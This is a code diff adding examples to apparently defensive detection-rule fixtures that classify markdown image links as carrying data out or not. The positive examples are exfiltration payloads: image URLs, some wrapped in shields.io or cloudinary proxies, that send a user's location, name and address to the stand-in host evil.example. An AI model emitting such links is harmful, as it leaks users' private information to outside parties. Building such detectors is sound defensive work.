@@ -232,11 +232,21 @@ export const CARRYING_ADDRESS_EXAMPLES: Readonly<Record<string, RuleExamples>> =
       '![x](https://mfrwg5ban53wk4zagiycazlvoi.evil.example/p.gif)',
       '![x](https://anna-acct-4471.evil.example/p.gif)',
       '![x](https://evil.example/Anna%20Brandt/Hauptstr%2012/p.gif)',
+      '![b](https://img.shields.io/endpoint?url=https%3A%2F%2Fevil.example%2Fb%3Fdata%3Dthe%2Buser%2Blives%2Bin%2BBerlin)',
+      '![b](https://res.cloudinary.com/demo/image/fetch/https://evil.example/p.gif?data=the+user+lives+in+Berlin)',
     ],
     negatives: [
       { text: '![cat](https://images.example/cat.jpg?w=640&h=480&fit=crop)', reason: 'sizes an image' },
       { text: '![build](https://ci.example/badge.svg?branch=main)', reason: 'a badge' },
       { text: '![cat](https://images.example/cat.jpg)', reason: 'carries nothing' },
+      {
+        text: '![b](https://img.shields.io/endpoint?url=https%3A%2F%2Facme.example%2Fbadge.json)',
+        reason: 'a badge of a file',
+      },
+      {
+        text: '![cat](https://images.example/resize?url=https%3A%2F%2Fcdn.example%2FMy%2520cat.png&w=20)',
+        reason: 'a proxy of a named file',
+      },
       { text: '![cat](https://images.example/My%20black%20cat.jpg)', reason: 'a file of that name' },
       { text: '![box](https://images.example/600x400?text=Hello+there+world)', reason: 'what the image shows' },
       { text: '![x](https://images.example/aHR0cHM6Ly9hLmV4YW1wbGUvYi5wbmc)', reason: 'a proxy, told which image' },
